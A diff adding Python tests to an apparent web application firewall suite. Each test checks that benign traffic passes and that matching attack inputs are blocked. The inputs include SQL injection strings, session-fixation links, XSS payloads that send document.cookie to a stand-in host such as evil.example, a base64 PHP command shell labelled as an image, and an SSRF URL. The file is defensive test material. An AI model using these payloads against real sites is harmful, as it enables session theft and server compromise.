@@ -108,6 +108,62 @@ def test_urls_with_empty_parameters_and_opaque_tokens_pass():
     assert inspect(Request.make("GET", "/?q=1'%20%26%26%201%3D1--")).blocked
 
 
+def test_session_ids_in_websocket_handshakes_same_site_links_and_iframes_pass():
+    ws = {"User-Agent": UA, "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
+          "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Origin": "https://player.example"}  # fmt: skip
+    assert passes(Request.make("GET", "/socket.io/?sessionid=Qx81-kd_3aL&EIO=4&transport=websocket", ws))
+    nav = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
+    assert passes(Request.make("GET", "/s?session_id=7731&f=all", {**nav, "Sec-Fetch-Site": "same-site"}))
+    widget = {**nav, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "iframe"}
+    assert passes(Request.make("GET", "/embed?sessionId=3f9a-1c2e&mode=CHAT", widget))
+    legacy = {"Host": "shop.example", "Referer": "https://shop.example/cart"}
+    assert passes(Request.make("GET", "/checkout?jsessionid=A81F", legacy))
+    # fixation: a link on another site or opened from outside the browser (a mail), or no Fetch Metadata
+    for site in ("cross-site", "none"):
+        assert inspect(Request.make("GET", "/login?PHPSESSID=attacker1", {**nav, "Sec-Fetch-Site": site})).blocked
+    assert inspect(Request.make("GET", "/login?jsessionid=A81F", {"Host": "shop.example", "Referer": "https://evil.example/"})).blocked
+    assert inspect(Request.make("GET", "/login?jsessionid=A81F", {"Host": "shop.example"})).blocked
+
+
+def test_graphql_documents_are_read_as_graphql():
+    doc = ("query Feed($first: Int, $loggedIn: Boolean!) {\n  feed(first: $first) {\n    id\n"
+           "    ...FeedPost @include(if: $loggedIn)\n    bookmarked @skip(if: $anonymous)\n  }\n}\n"
+           'fragment FeedPost on Post { title search(q: "eval and exec") }')  # fmt: skip
+    assert passes(Request.make("POST", "/graphql", XHR, json.dumps({"query": doc, "variables": {"first": 10}})))
+    # an injection in a string literal of the document, or a `query` field that is no GraphQL, is seen
+    hostile = '{ user(name: "x\' or 1=1--") { id } }'
+    assert inspect(Request.make("POST", "/graphql", XHR, json.dumps({"query": hostile}))).blocked
+    assert inspect(Request.make("POST", "/api", XHR, json.dumps({"query": "@include($_GET['f'])"}))).blocked
+    assert inspect(Request.make("POST", "/graphql", XHR, json.dumps({"query": "{ a }", "variables": {"n": "' or 1=1--"}}))).blocked
+
+
+def test_sql_typed_as_search_text_passes():
+    from urllib.parse import quote
+
+    searches = ["select 1 from a", "SELECT * FROM orders WHERE orders.code = 'c-77' LIMIT 1;",
+                "union select 关键字怎么用", "how to use the SELECT INTO OUTFILE S3 statement to export a table",
+                "sql注入的“or 1=1，or 1=2”是什么意思？"]  # fmt: skip
+    for text in searches:
+        assert passes(Request.make("GET", "/search?q=" + quote(text), {"User-Agent": UA})), text
+    # the same box carrying an injection: a closed string, a cut or a stacked statement, a tautology
+    for attack in ("x' or 'a'='a", "select * from users--", "1; drop table orders", "1or1=1", "' union select 1,2--"):
+        assert inspect(Request.make("GET", "/search?q=" + quote(attack))).blocked, attack
+
+
+def test_search_dsls_code_and_keyword_named_json_keys_pass():
+    from urllib.parse import quote
+
+    dsl = 'title="sql" && product="wordpress" || author=="CT Stack"'
+    ref = {"User-Agent": UA, "Referer": "https://app.example/poc?search=" + quote(quote(dsl))}
+    assert passes(Request.make("GET", "/api/unread", ref))
+    beacon = {"d": "ac=tl&key=seo_union&val=" + quote(json.dumps({"type": "pc", "union": "u1", "order": 2}))}
+    assert passes(Request.make("POST", "/collect", XHR, json.dumps(beacon)))
+    code = "w < 1420 ? $('#box_4f')&& (shown = true) : $('#box_9c')&& (shown = false)"
+    assert passes(Request.make("POST", "/ad/log", XHR, json.dumps([quote(json.dumps({"snippet": code}))])))
+    assert inspect(Request.make("GET", "/api/unread", {"Referer": "https://app.example/?q=" + quote("x\" && 1=1 --")})).blocked
+    assert inspect(Request.make("POST", "/collect", XHR, json.dumps({"d": "x' union select null,version()--"}))).blocked
+
+
 # --- command injection and traversal (waf/_shell.py, waf/_traversal.py) ----------------------------------
 
 
@@ -211,7 +267,7 @@ def test_javascript_function_sources_in_telemetry_pass():
     assert passes(Request.make("POST", "/logstores/track", XHR, json.dumps(logs)))
     # the same field carrying code that runs: a quote breakout, an invoked function literal
     assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": "';alert(document.cookie)//"}))).blocked
-    iife = "(function(){document.location='//evil.example/?'+document.cookie})()"
+    iife = "x');(function(){document.location='//evil.example/?'+document.cookie})()//"
     assert inspect(Request.make("POST", "/logstores/track", XHR, json.dumps({"value": iife}))).blocked
 
 
@@ -240,3 +296,50 @@ def test_session_replay_tag_names_and_inert_link_targets_pass():
     for attack in ("<iframe src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                    "javascript:void 0;alert(1)"):  # fmt: skip
         assert inspect(Request.make("POST", "/rec/bundle", XHR, json.dumps({"Args": [attack]}))).blocked
+
+
+def test_rich_text_html_with_media_and_icons_passes():
+    post = ('<p>Release notes</p><p><img src="https://cdn.example.com/u/42/shot.png" alt="screenshot" width="640"></p>'
+            '<video src="https://media.example.com/demo.mp4" controls poster="https://media.example.com/demo.jpg"></video>'
+            '<p><svg class="icon" viewBox="0 0 24 24"><use href="#icon-check"></use></svg> done</p>'
+            '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="></p>')  # fmt: skip
+    assert passes(Request.make("POST", "/api/posts", XHR, json.dumps({"title": "v2", "content": post})))
+    form = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Content-Type": "application/x-www-form-urlencoded"}
+    from urllib.parse import urlencode
+
+    assert passes(Request.make("POST", "/comment", form, urlencode({"body": post})))
+    for attack in ('<video src=x onerror="alert(1)">', '<svg><set attributeName=href to="javascript:alert(1)">',
+                   '<img src=x onerror=alert(document.domain)>'):  # fmt: skip
+        assert inspect(Request.make("POST", "/comment", form, urlencode({"body": attack}))).blocked
+
+
+def test_source_snippets_in_error_reports_pass():
+    # an error tracker's event: the lines of source around the failing one, sent by the page's script
+    event = {"exception": {"values": [{"type": "TypeError", "stacktrace": {"frames": [{
+        "filename": "https://app.example.com/static/js/main.3f2a9c.js", "function": "render", "lineno": 41,
+        "pre_context": ["  const el = document.getElementById('out');", "  if (!el) return;"],
+        "context_line": "  el.innerHTML = template(data); document.title = data.title;",
+        "post_context": ["  setTimeout(refresh, 5000);", "}"]}]}}]}}  # fmt: skip
+    assert passes(Request.make("POST", "/api/42/store/", XHR, json.dumps(event)))
+    # the same sink behind a breakout in a JSON value; and run as it is in a link a victim follows
+    assert inspect(Request.make("POST", "/api/42/store/", XHR, json.dumps({"message": "x';document.location='//e/'+document.cookie//"}))).blocked
+    nav = {"User-Agent": UA, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"}
+    assert inspect(Request.make("GET", "/search?q=document.getElementById('out').innerHTML%3Dlocation.hash", nav)).blocked
+    assert inspect(Request.make("GET", "/search?cb=alert(document.domain)", nav)).blocked
+
+
+def test_inline_images_and_cidr_blocks_pass():
+    """Session-replay beacons carry screenshots as `data:image/png;base64,...`; cloud consoles post
+    security-group rules with CIDR blocks (`0.0.0.0/0`)."""
+    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+    replay = json.dumps({"Evts": [{"Kind": 2, "Args": [7, "img", {"src": png}]}]})
+    assert passes(Request.make("POST", "/rec/bundle", {**XHR, "Content-Type": "text/plain"}, replay))
+    form = {**XHR, "Content-Type": "application/x-www-form-urlencoded"}
+    rules = json.dumps([{"IpProtocol": "tcp", "PortRange": "443/443", "SourceCidrIp": "0.0.0.0/0"}])
+    from urllib.parse import quote_plus
+
+    assert passes(Request.make("POST", "/sg/permissions.json", form, "authorizePermissions=" + quote_plus(rules)))
+    # the same shapes as attacks: PHP code labelled as an image, an internal address as a URL
+    php = "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="
+    assert inspect(Request.make("GET", "/view?file=" + quote_plus(php), {"User-Agent": UA})).blocked
+    assert inspect(Request.make("GET", "/fetch?url=127.0.0.1/admin", {"User-Agent": UA})).blocked
